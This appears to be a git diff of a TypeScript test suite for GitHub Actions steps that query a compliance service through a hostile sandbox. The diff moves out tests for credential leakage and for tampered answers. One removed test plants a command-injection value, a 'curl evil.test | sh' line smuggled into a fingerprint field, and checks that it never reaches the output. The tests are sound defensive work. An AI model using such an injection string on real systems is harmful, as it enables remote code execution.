@@ -2,7 +2,8 @@
  * Every sub-action, started in-process as src/main.ts starts it, against a hostile service (the sandbox's hostile seed:
  * workflow commands, line breaks of every kind, mentions and HTML in every free text it serves) and hostile
  * pull-request and cluster text. Nothing it reads may act on the runner, notify anyone or render as HTML; outputs keep
- * the service's values exactly. Then inputs refused, and answers tampered with to fool a gate.
+ * the service's values exactly. Answers tampered with to fool a gate, and credentials in an input: in-process beside
+ * each action's other branches (test/actions).
  */
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -13,9 +14,9 @@ import { onPullRequest, useFakeGitHub } from '../helpers/github-api.js';
 import { useInProcessAction } from '../helpers/in-process.js';
 import { useTempDirs } from '../helpers/git.js';
 import { pod, podList, running } from '../helpers/pods.js';
-import { outputFile, type RunResult } from '../helpers/runner.js';
+import type { RunResult } from '../helpers/runner.js';
 import { PROFILES, type AnswerProfile } from '@compliance-actions/sandbox/profile';
-import { connection, DEMO_TOKEN, useSandbox } from '../helpers/sandbox.js';
+import { connection, useSandbox } from '../helpers/sandbox.js';
 import { assertNoSecret, withoutMaskCommands } from '../helpers/secrets.js';
 
 const start = useSandbox();
@@ -266,108 +267,5 @@ describe('against a hostile service, where only full answers carry the text', ()
     expect(result.outputs['artifact-name']).toBe(`ghcr.io/acme/backend:1.5.0${HOSTILE_TEXT}`);
     assertInert(result);
     assertShown(result);
-  });
-});
-
-describe('secrets in inputs', () => {
-  it('never quotes the credentials of a URL input, even one that cannot be parsed', async () => {
-    const result = await runStep('list-actions', {
-      inputs: {
-        'api-url': 'https://ci-user:hunter2-pass@compliance.test:99999',
-        'api-token': DEMO_TOKEN,
-        org: 'demo',
-      },
-    });
-    expect(result.code).toBe(1);
-    expect(result.stdout).toContain("::error::Invalid input 'api-url'");
-    expect(result.everything).not.toContain('hunter2-pass');
-    expect(result.everything).not.toContain('ci-user');
-  });
-});
-
-describe.each(PROFILES)('answers that would fool a gate, the sandbox answering %s', (profile) => {
-  /** The sandbox's own answer to `path`, changed by `edit`, served once in its place. */
-  async function tampered(path: string, edit: (answer: Record<string, unknown>) => void) {
-    const sandbox = await start({ profile });
-    const response = await sandbox.fetch(path);
-    expect(response.status).toBe(200);
-    const answer = (await response.json()) as Record<string, unknown>;
-    edit(answer);
-    sandbox.sandbox.faults.respondNext(1, { status: 200, body: answer });
-    return sandbox;
-  }
-
-  describe('diff-envs: an answer that names no snapshot is not confirmed, never "no differences" as asked', () => {
-    const notConfirmed =
-      'Not confirmed: the answer names no snapshot for snappish1 and snappish2, so it cannot be shown to be about ' +
-      'staging and staging as asked.';
-    const unnamed = (inputs: Record<string, string> = {}) =>
-      tampered('/env-diff/demo?snappish1=staging&snappish2=staging', (answer) => {
-        for (const group of Object.values(answer)) delete (group as Record<string, unknown>).snapshot_id;
-      }).then((sandbox) =>
-        runStep('diff-envs', {
-          inputs: { ...connection(sandbox.url), 'snapshot-1': 'staging', 'snapshot-2': 'staging', ...inputs },
-        }),
-      );
-
-    it('without a gate it goes on, and the summary and log say it is not confirmed', async () => {
-      const result = await unnamed();
-      expect(result.code).toBe(0);
-      expect(result.outputs).toMatchObject({
-        outcome: 'same',
-        changed: 'false',
-        'snapshot-1-id': '',
-        'snapshot-2-id': '',
-      });
-      expect(result.stdout).toContain(`\n${notConfirmed}\n`);
-      expect(result.stdout).not.toContain('::error');
-      expect(result.summary).toContain(
-        `### Environment diff: staging → staging: no differences\n\n${notConfirmed}\n`,
-      );
-      // Never "both name the same snapshot": the answer does not say which it is.
-      expect(result.summary).not.toContain('Both name the same snapshot');
-      expect(outputFile(result, 'result-file')).toMatchObject({
-        outcome: 'same',
-        snapshot1: { expression: 'staging', id: null, name: 'staging' },
-        snapshot2: { expression: 'staging', id: null, name: 'staging' },
-      });
-    });
-
-    it.each(['fail-on-diff', 'fail-on-non-compliant'])(
-      'with %s it is could not check (outcome error), the diff written all the same',
-      async (gate) => {
-        const result = await unnamed({ [gate]: 'true' });
-        expect(result.code).toBe(1);
-        expect(result.outputs).toMatchObject({ outcome: 'error', 'snapshot-1-id': '', 'snapshot-2-id': '' });
-        expect(result.stdout.trimEnd().split('\n').at(-1)).toBe(
-          `::error::${gate}: could not check. ${notConfirmed}`,
-        );
-        expect(result.summary).toContain('<sub>Outcome: **error**');
-        expect(result.summary).toContain(notConfirmed);
-        expect(outputFile(result, 'result-file')).toMatchObject({
-          outcome: 'error',
-          error: { kind: 'unexpected-response', message: `${gate}: could not check. ${notConfirmed}` },
-        });
-      },
-    );
-  });
-
-  it('get-deployment: a replaced fingerprint that is not a fingerprint never reaches the output', async () => {
-    const sandbox = await tampered(`/deployments/demo/staging/${BACKEND_150}`, (answer) => {
-      // A minimal answer names no replaced artifact: the tampered one names this one alone.
-      const replaced = (answer.replaced_artifact ?? {}) as Record<string, unknown>;
-      answer.replaced_artifact = { ...replaced, fingerprint: '"; curl evil.test | sh; echo "' };
-      // Named as asked, so the step reads it (a minimal answer names neither: not confirmed).
-      answer.fingerprint = BACKEND_150;
-      answer.env_name = 'staging';
-    });
-    const result = await runStep('get-deployment', {
-      inputs: { ...connection(sandbox.url), environment: 'staging', fingerprint: BACKEND_150 },
-    });
-    expect(result.outputs.outcome).toBe('found');
-    expect(result.outputs['replaced-fingerprint']).toBe('');
-    expect(result.everything).not.toContain('curl evil.test');
-    // It replaced something the step cannot read: never "nothing".
-    expect(result.summary).not.toContain('| Replaced | nothing |');
   });
 });
